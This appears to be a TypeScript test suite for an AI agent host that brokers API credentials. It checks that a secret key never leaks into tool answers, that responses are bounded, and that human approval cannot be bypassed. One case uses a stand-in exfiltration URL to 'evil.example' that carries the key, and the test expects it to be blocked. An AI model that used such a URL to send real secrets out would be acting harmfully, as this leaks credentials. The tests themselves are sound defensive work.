import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { secretForms } from '../../support/canary-forms.ts'
import { createScanner } from '../../support/canary-scan.ts'
import { AgentHost, type Answer, RawHost } from '../../support/agent-host.ts'
import { type Handler, ok, UseWorld } from '../../support/use-world.ts'

const KEY = 'sk_test_4eC39HqLyjWDarjtT1zdp7dcQx8Rw2'
const scan = createScanner([{ kind: 'api-key', value: KEY }])

let world: UseWorld
beforeAll(async () => {
  world = await UseWorld.start({ keys: { STRIPE_API_KEY: KEY }, services: ['stripe'] })
  await world.allow('stripe', ['GET', 'POST'])
})
afterAll(() => world.end())
beforeEach(() => {
  world.handle = ok
  world.seen.length = 0
})

const isAsked = (): Promise<void> =>
  expect
    .poll(() => world.asTerminal(async (vault) => (await vault.ask('listQuestions')) as unknown[]))
    .toHaveLength(1)

/** Every form in which the key is removed from an answer. */
const forms = secretForms(KEY)
  .filter(({ name }) => !/half|UTF-16/.test(name))
  .map(({ bytes }) => bytes.toString('latin1'))

const echoing: Handler = (_request, response) => {
  const headers = forms.flatMap((form, at) => [`x-echo-${String(at)}`, `<${form}>`])
  response.writeHead(200, `it was ${KEY}`, headers)
  for (const form of forms) for (const half of [form.slice(0, 9), form.slice(9)]) response.write(half)
  response.end()
}

describe('no answer of a tool holds the key', () => {
  let host: AgentHost
  const folder = (): string => join(world.home, 'tools')
  beforeAll(async () => {
    mkdirSync(folder())
    const manifest = {
      tool_id: 'items',
      executor_id: 'http_client',
      version: '1.0.0',
      auth_service: 'stripe',
      required_scope: 'read',
      config: { method: 'GET', url: `${world.origin}/v1/items` }
    }
    writeFileSync(join(folder(), 'items.json'), JSON.stringify(manifest))
    host = await AgentHost.start({ env: world.env, args: ['--tools', folder()] })
  })
  afterAll(() => host.end())

  const url = (): string => `${world.origin}/v1/items`
  const clean = ({ text }: Answer): string => {
    expect(scan(text)).toEqual([])
    return text
  }

  it('where the server gives it back in every form', async () => {
    world.handle = echoing
    expect(clean(await host.call('http_request', { service: 'stripe', url: url() }))).toContain('answered')
    const run = host.call('run_tool', { tool_id: 'items' })
    await isAsked()
    await world.answer('once')
    expect(clean(await run)).toContain('answered')
  })

  it.each<[string, string, (origin: string) => Record<string, unknown>]>([
    ['another host', 'http_request', () => ({ service: 'stripe', url: `https://evil.example/?k=${KEY}` })],
    ['no address', 'http_request', () => ({ service: 'stripe', url: KEY })],
    ['no service', 'http_request', (at) => ({ service: 'nothing', url: `${at}/` })],
    ['a key as the service', 'http_request', (at) => ({ service: KEY, url: `${at}/` })],
    ['a field that it has not', 'http_request', (at) => ({ service: 'stripe', url: `${at}/`, [KEY]: KEY })],
    [
      'a header of ours',
      'http_request',
      (at) => ({ service: 'stripe', url: at, headers: { authorization: KEY } })
    ],
    ['two bodies', 'http_request', (at) => ({ service: 'stripe', url: at, body: KEY, body_base64: 'AAAA' })],
    ['no tool', 'run_tool', () => ({ tool_id: KEY })],
    ['a manifest that is none', 'run_tool', () => ({ tool_id: 'x', manifests: [{ tool_id: KEY }] })],
    ['a wrong rule', 'propose', () => ({ kind: 'rule', service: 'stripe', rule: KEY, reason: KEY })],
    ['a service that nobody knows', 'sign_in', () => ({ service: 'nothing', reason: KEY })],
    ['an argument of another type', 'list_accounts', () => ({ all: KEY })]
  ])('or a value of the call, where it fails for %s', async (_, tool, args) => {
    const answer = await host.call(tool, args(world.origin))
    expect(answer.isError || answer.value['success'] === false).toBe(true)
    clean(answer)
    expect(world.seen).toEqual([])
  })

  it('gives the environment to manifests of the person alone', async () => {
    const manifest = {
      tool_id: 'leak',
      executor_id: 'http_client',
      version: '1.0.0',
      required_scope: null,
      environment: ['HOME'],
      config: { method: 'GET', url: `${world.origin}/\${HOME}` }
    }
    const { value } = await host.call('run_tool', { tool_id: 'leak', manifests: [manifest] })
    expect([value['success'], world.seen]).toEqual([false, []])
  })
})

describe('what a server answers', () => {
  let host: AgentHost
  beforeAll(async () => {
    host = await AgentHost.start({ env: world.env })
  })
  afterAll(() => host.end())
  const get = () => host.call('http_request', { service: 'stripe', url: `${world.origin}/v1/big` })

  it.each<[string, string]>([
    ['a long text', 'text '],
    ['text that grows as JSON', '"\n\u0001\\'],
    ['invisible letters', '\u{e0041}\u202e'],
    ['no text', '\u0000']
  ])('is cut to what a host takes, and says so: %s', async (name, piece) => {
    const bytes = Buffer.from(piece.repeat(1_000_000).slice(0, 3_000_000))
    if (name === 'no text') bytes[0] = 0xff
    world.handle = (_request, response) => void response.end(bytes)
    const { value, text } = await get()
    expect(value).toMatchObject({
      state: 'answered',
      cut: true,
      encoding: name === 'no text' ? 'base64' : 'text'
    })
    expect(Buffer.byteLength(text)).toBeLessThan(36 * 1024)
    expect(String(value['body']).length).toBeGreaterThan(2000)
  })

  it('is cut also where it never ends', async () => {
    const isOver = Promise.withResolvers<void>()
    world.handle = (request, response) => {
      response.on('drain', () => response.write('x'.repeat(64 * 1024)))
      request.on('close', () => isOver.resolve())
      response.write('x'.repeat(64 * 1024))
    }
    expect((await get()).value).toMatchObject({ cut: true })
    await isOver.promise
  })

  it('has its headers within bounds', async () => {
    const headers = Array.from({ length: 60 }, (_, at) => [`x-${String(at)}`, 'y'.repeat(900)]).flat()
    world.handle = (_request, response) => void response.writeHead(200, headers).end('ok')
    const { value } = await get()
    expect(JSON.stringify(value['headers']).length).toBeLessThan(5000)
    expect(value['body']).toBe('ok')
  })
})

describe('a host that is wrong or hostile', () => {
  let host: RawHost
  beforeEach(() => {
    host = new RawHost(world.env)
  })
  afterEach(async () => {
    host.child.stdin?.end()
    expect(await host.ended).toBe(0)
    for (const line of host.lines) expect(() => JSON.parse(line) as unknown).not.toThrow()
  })

  it('gets answers to its next messages after lines that are none', async () => {
    await host.initialize()
    host.write('no json\n{"jsonrpc":"1.0"}\n[]\n\n{"jsonrpc":"2.0","method":1}\n')
    host.send({ id: 1, method: 'tools/call', params: { name: 'nothing', arguments: {} } })
    expect(await host.next()).toMatchObject({ id: 1, error: { code: -32602 } })
    host.send({ id: 2, method: 'nothing' })
    expect(await host.next()).toMatchObject({ id: 2, error: { code: -32601 } })
    host.send({ id: 3, method: 'tools/call', params: { name: 'list_accounts', arguments: [] } })
    expect(await host.next()).toMatchObject({ id: 3 })
    host.send({ id: 4, method: 'tools/call', params: { name: 'list_accounts', arguments: {} } })
    expect(await host.next()).toMatchObject({ id: 4, result: { structuredContent: { state: 'done' } } })
  })

  it('is ended where one message is larger than ten megabytes', async () => {
    await host.initialize()
    host.write(`{"jsonrpc":"2.0","id":1,"method":"${'x'.repeat(11 * 1024 * 1024)}`)
    expect(await host.ended).toBe(0)
  })

  it('is told to wait where it calls without an end', async () => {
    await host.initialize()
    const call = { name: 'sign_in', arguments: { service: 'stripe' } }
    for (let id = 1; id <= 100; id += 1) host.send({ id, method: 'tools/call', params: call })
    const answers = []
    for (let at = 0; at < 100; at += 1) answers.push(JSON.stringify(await host.next()))
    const refused = answers.filter((answer) => answer.includes('TOO_MANY_CALLS'))
    expect(refused.length).toBeGreaterThan(30)
    expect(refused.length).toBeLessThan(100)
  })

  it('can not answer a question itself, nor with a form', async () => {
    await host.initialize()
    for (const name of ['answerQuestion', 'reveal', 'approve']) {
      host.send({ id: 1, method: 'tools/call', params: { name, arguments: {} } })
      expect(await host.next()).toMatchObject({ error: {} })
    }
    const form = { approved: { action: 'accept', content: { approved: true } } }
    const args = { service: 'stripe', method: 'DELETE', url: `${world.origin}/v1/x`, pending: 'id' }
    host.send({
      id: 2,
      method: 'tools/call',
      params: { name: 'http_request', arguments: args, inputResponses: form }
    })
    await isAsked()
    await world.answer('denied')
    expect(await host.next()).toMatchObject({ id: 2, result: { isError: true } })
    expect(world.seen).toEqual([])
  })
})

it('ends with its input, also while a call waits for the person', async () => {
  const host = new RawHost(world.env)
  await host.initialize()
  const args = { service: 'stripe', method: 'PUT', url: `${world.origin}/v1/end` }
  host.send({ id: 1, method: 'tools/call', params: { name: 'http_request', arguments: args } })
  await isAsked()
  host.child.stdin?.end()
  expect(await host.ended).toBe(0)
  expect(host.errors).toBe('')
  await world.answer('denied')
})

it('says that a sandbox keeps it from the vault, and starts no second one', async () => {
  const key = join(world.home, 'socket.key')
  const host = await AgentHost.start({ env: { ...world.env, LATCHKEY_CLIENT_KEY: key } })
  chmodSync(key, 0o644)
  try {
    const { value, isError } = await host.call('list_accounts')
    expect([isError, value]).toMatchObject([true, { error: { code: 'BROKER_UNREACHABLE' } }])
  } finally {
    chmodSync(key, 0o600)
    await host.end()
  }
})

it('asks under the name of a paired program, with the rules of that name', async () => {
  const key = join(world.home, 'agent.key')
  expect(await world.latchkey(['pair', 'agent', '--key-file', key])).toMatchObject({ code: 0 })
  const host = await AgentHost.start({ env: { ...world.env, LATCHKEY_CLIENT_KEY: key } })
  try {
    const answer = host.call('http_request', { service: 'stripe', url: `${world.origin}/v1/named` })
    await isAsked()
    expect(await world.answer('once')).toMatchObject({ client: { name: 'agent' } })
    expect((await answer).value).toMatchObject({ status: 200 })
    world.writePolicy('clients:\n  agent:\n    services: {}\n')
    expect((await host.call('list_accounts')).value).toMatchObject({ accounts: [] })
  } finally {
    world.writePolicy()
    await host.end()
  }
})

it('serves on a Node that lacks what came after 20.19', async () => {
  const older = 'delete Promise.withResolvers;delete URL.parse;delete Promise.try;delete Array.fromAsync'
  const env = { ...world.env, NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(older)}` }
  const host = await AgentHost.start({ env })
  try {
    const body = 'x'.repeat(1_000_000)
    const { value } = await host.call('http_request', {
      service: 'stripe',
      url: `${world.origin}/v1/items`,
      body
    })
    expect(value).toMatchObject({ status: 200 })
  } finally {
    await host.end()
  }
})
